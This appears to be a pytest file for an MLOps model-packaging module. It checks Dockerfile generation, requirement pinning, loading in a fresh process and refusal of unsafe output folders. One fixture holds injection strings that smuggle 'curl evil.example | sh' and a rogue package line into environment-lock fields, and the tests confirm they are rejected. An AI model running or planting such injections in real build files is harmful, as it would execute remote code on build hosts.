"""Packaging: a self-contained model folder, loaded and scored in a fresh process."""

from __future__ import annotations

import json
import subprocess
import sys

import pytest
from release_support import registered

from jupyter_mlops.errors import Conflict, InvalidInput
from jupyter_mlops.release import registration
from jupyter_mlops.release.package import package, pin_requirements
from jupyter_mlops.store.gateway import gateway_for


def test_package_loads_in_a_fresh_process_and_predicts(workspace, tmp_path):
    registered(workspace, kinds=("good",))
    out = package(gateway_for(workspace), "churn", 1, tmp_path / "pkg")
    names = {p.name for p in out.iterdir()}
    assert {"model", "model_card.md", "model_card.html", "lineage.json", "Dockerfile"} <= names
    manifest = json.loads((out / "lineage.json").read_text())
    assert manifest["version"] == "1" and manifest["lineage"]["run_id"]
    assert "model/MLmodel" in manifest["files"]
    reqs = (out / "model" / "requirements.txt").read_text().split()
    assert reqs and all("==" in r for r in reqs), reqs
    docker = (out / "Dockerfile").read_text()
    assert "FROM python:3." in docker and "jupyter_mlops.serving.entrypoint" in docker
    code = (
        "import sys, mlflow.pyfunc\n"
        "m = mlflow.pyfunc.load_model(sys.argv[1])\n"
        "print([int(p) for p in m.predict(m.input_example)])\n"
    )
    res = subprocess.run(
        [sys.executable, "-c", code, str(out / "model")],
        capture_output=True,
        text=True,
        timeout=120,
        cwd=tmp_path,
    )
    assert res.returncode == 0, res.stderr[-2000:]
    preds = json.loads(res.stdout.strip().splitlines()[-1])
    assert len(preds) == 3 and set(preds) <= {0, 1}


def test_package_refuses_a_non_empty_folder_and_foreign_sources(workspace, tmp_path):
    registered(workspace, kinds=("good",))
    (tmp_path / "busy").mkdir()
    (tmp_path / "busy" / "x").write_text("keep me")
    with pytest.raises(Conflict):
        package(gateway_for(workspace), "churn", 1, tmp_path / "busy")
    assert (tmp_path / "busy" / "x").read_text() == "keep me"
    for inside in (workspace.root, workspace.state_dir / "pkg"):
        with pytest.raises(InvalidInput, match="refusing"):
            package(gateway_for(workspace), "churn", 1, inside, force=True)
    from jupyter_mlops.store.client import client_for

    mv = client_for(workspace).create_model_version("churn", source=(tmp_path / "evil").as_uri())
    with pytest.raises(InvalidInput, match="outside this workspace"):
        package(gateway_for(workspace), "churn", mv.version, tmp_path / "pkg2")
    assert registration.get_version(gateway_for(workspace), "churn", 1)


def test_pin_requirements_uses_the_lock():
    lock = {"scikit-learn": "1.9.0", "pandas": "3.1.0"}
    assert pin_requirements(["scikit-learn>=1.0", "pandas", "# c", "cloudpickle"], lock) == [
        "scikit-learn==1.9.0",
        "pandas==3.1.0",
        "cloudpickle",
    ]


def _record_environment(ws, env: dict) -> None:
    """Replace the training run's environment lock with ``env`` (what a hostile run could hold)."""
    from jupyter_mlops.store.client import client_for

    run_id = registration.get_version(gateway_for(ws), "churn", 1).run_id
    client_for(ws).log_text(run_id, json.dumps(env), "mlops/environment.json")


HOSTILE_ENVIRONMENTS = [
    ("python", {"python": "3.11\nRUN curl evil.example | sh", "distributions": {}}),
    ("mlflow", {"python": "3.11.7", "distributions": {"mlflow": '3.0" && curl evil.example "'}}),
    (
        "scikit-learn",
        {"python": "3.11.7", "distributions": {"scikit-learn": "1.0\nevil-package==6.6.6"}},
    ),
]


@pytest.mark.parametrize(
    ("field", "env"), HOSTILE_ENVIRONMENTS, ids=[f for f, _ in HOSTILE_ENVIRONMENTS]
)
def test_a_hostile_environment_lock_never_reaches_the_dockerfile(workspace, tmp_path, field, env):
    registered(workspace, kinds=("good",))
    _record_environment(workspace, env)
    with pytest.raises(InvalidInput, match=field):
        package(gateway_for(workspace), "churn", 1, tmp_path / "pkg")
    assert sorted(p.name for p in tmp_path.iterdir() if "pkg" in p.name) == []


def test_every_packaged_line_is_a_requirement_or_a_known_instruction(workspace, tmp_path):
    from packaging.requirements import Requirement

    registered(workspace, kinds=("good",))
    out = package(gateway_for(workspace), "churn", 1, tmp_path / "pkg")
    for line in (out / "model" / "requirements.txt").read_text().splitlines():
        Requirement(line)
    instructions = {"FROM", "WORKDIR", "COPY", "RUN", "LABEL", "EXPOSE", "USER", "CMD", "ENV"}
    for line in (out / "Dockerfile").read_text().splitlines():
        assert not line or line.startswith("#") or line.split()[0] in instructions, line


def test_force_keeps_the_old_folder_until_the_new_one_is_complete(workspace, tmp_path):
    registered(workspace, kinds=("good",))
    parent = tmp_path / "out"
    old = parent / "pkg"
    old.mkdir(parents=True)
    (old / "keep.txt").write_text("the previous package")
    _record_environment(workspace, HOSTILE_ENVIRONMENTS[0][1])
    with pytest.raises(InvalidInput):
        package(gateway_for(workspace), "churn", 1, old, force=True)
    assert (old / "keep.txt").read_text() == "the previous package"
    assert sorted(p.name for p in parent.iterdir()) == ["pkg"], "no staging folder left"
    _record_environment(workspace, {"python": "3.11.7", "distributions": {}})
    out = package(gateway_for(workspace), "churn", 1, old, force=True)
    assert not (out / "keep.txt").exists() and (out / "Dockerfile").is_file()
    assert sorted(p.name for p in parent.iterdir()) == ["pkg"]
